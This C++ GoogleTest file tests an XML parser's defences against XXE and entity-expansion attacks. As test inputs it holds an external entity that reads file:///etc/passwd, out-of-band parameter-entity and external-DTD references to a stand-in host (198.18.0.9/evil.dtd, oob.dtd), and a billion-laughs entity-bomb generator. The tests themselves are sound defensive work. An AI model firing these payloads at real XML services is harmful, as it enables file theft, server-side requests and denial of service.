// XXE and entity-expansion posture: declarations are findings, nothing
// external is ever loaded, content references are not expanded, expansion
// in attribute values is capped by expat's billion-laughs protection.
#include <gtest/gtest.h>

#include <string>

#include "tests/unit/parsers/xml/xml_harness.h"

namespace weir::parse::test {
namespace {

TEST(XmlEntities, DoctypeWithoutEntities) {
  const XmlRun r = run_xml("<!DOCTYPE a><a>1</a>");
  EXPECT_TRUE(r.has("xml.doctype"));
  EXPECT_EQ(r.detail("xml.doctype"), "a");
  EXPECT_FALSE(r.has("xml.entity_declaration"));
  EXPECT_FALSE(r.has("xml.external_entity"));
  EXPECT_TRUE(r.result.doctype);
  EXPECT_EQ(r.field("/a"), "1");
  EXPECT_FALSE(run_xml("<a>1</a>").result.doctype);
}

TEST(XmlEntities, ClassicXxeSystemIsReportedAndNotResolved) {
  const XmlRun r = run_xml(
      R"(<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>)"
      R"(<foo><user>&xxe;</user></foo>)");
  EXPECT_EQ(r.status, XmlStatus::Ok);
  EXPECT_TRUE(r.has("xml.doctype"));
  EXPECT_TRUE(r.has("xml.entity_declaration"));
  EXPECT_EQ(r.detail("xml.entity_declaration"), "xxe");
  EXPECT_TRUE(r.has("xml.external_entity"));
  EXPECT_EQ(r.detail("xml.external_entity"), "file:///etc/passwd");
  // The reference stays as written: nothing was read from anywhere.
  EXPECT_EQ(r.field("/foo/user"), "&xxe;");
}

TEST(XmlEntities, PublicAndExternalDtdAndParameterEntities) {
  XmlRun r = run_xml(
      R"(<!DOCTYPE a [<!ENTITY p PUBLIC "-//X//Y" "http://198.18.0.9/x.dtd">]><a>&p;</a>)");
  EXPECT_TRUE(r.has("xml.external_entity"));
  EXPECT_EQ(r.detail("xml.external_entity"), "http://198.18.0.9/x.dtd");
  // External DTD subset.
  r = run_xml(R"(<!DOCTYPE a SYSTEM "http://198.18.0.9/evil.dtd"><a>1</a>)");
  EXPECT_TRUE(r.has("xml.doctype"));
  EXPECT_TRUE(r.has("xml.external_entity"));
  EXPECT_FALSE(r.has("xml.entity_declaration"));
  // Out-of-band XXE through a parameter entity: declared, never fetched.
  r = run_xml(
      R"(<!DOCTYPE a [<!ENTITY % ext SYSTEM "http://198.18.0.9/oob.dtd"> %ext;]><a>1</a>)");
  EXPECT_TRUE(r.has("xml.entity_declaration"));
  EXPECT_TRUE(r.has("xml.external_entity"));
  EXPECT_EQ(r.field("/a"), "1");
}

std::string laughs_dtd(int levels) {
  std::string d = "<!DOCTYPE lolz [<!ENTITY lol0 \"lollollollollollollollollollol\">";
  for (int i = 1; i <= levels; ++i) {
    d += "<!ENTITY lol" + std::to_string(i) + " \"";
    for (int k = 0; k < 10; ++k) d += "&lol" + std::to_string(i - 1) + ";";
    d += "\">";
  }
  return d + "]>";
}

TEST(XmlEntities, BillionLaughsInContentIsNotExpanded) {
  const XmlRun r = run_xml(laughs_dtd(9) + "<lolz>&lol9;</lolz>");
  EXPECT_EQ(r.status, XmlStatus::Ok);
  EXPECT_TRUE(r.has("xml.entity_declaration"));
  EXPECT_EQ(r.field("/lolz"), "&lol9;");
  EXPECT_LT(r.expat_bytes, 1u << 20);
}

TEST(XmlEntities, AmplificationInAttributesIsCapped) {
  // 10^5 * 30 bytes = 3 MB from a ~1 KB document.
  const XmlRun r = run_xml(laughs_dtd(5) + "<lolz a=\"&lol5;\"/>");
  EXPECT_EQ(r.status, XmlStatus::Capped);
  EXPECT_TRUE(r.has("xml.entity_amplification"));
  EXPECT_EQ(r.raw.size(), 1u);
  // A small expansion stays under the activation threshold and is allowed.
  const XmlRun ok = run_xml(laughs_dtd(1) + "<lolz a=\"&lol1;\"/>");
  EXPECT_EQ(ok.status, XmlStatus::Ok);
  EXPECT_EQ(ok.field("/lolz/@a").size(), 300u);
}

TEST(XmlEntities, ExpansionBeyondTheArenaIsAMemoryCap) {
  // With amplification allowed, a big expansion runs out of expat's arena
  // instead of the heap.
  XmlPolicy p;
  p.max_amplification = 1e9f;
  p.amplification_threshold = uint64_t{1} << 40;
  const XmlRun r = run_xml(laughs_dtd(6) + "<lolz a=\"&lol6;\"/>", {}, p);
  EXPECT_EQ(r.status, XmlStatus::Capped);
  EXPECT_TRUE(r.has("xml.memory_cap"));
}

}  // namespace
}  // namespace weir::parse::test
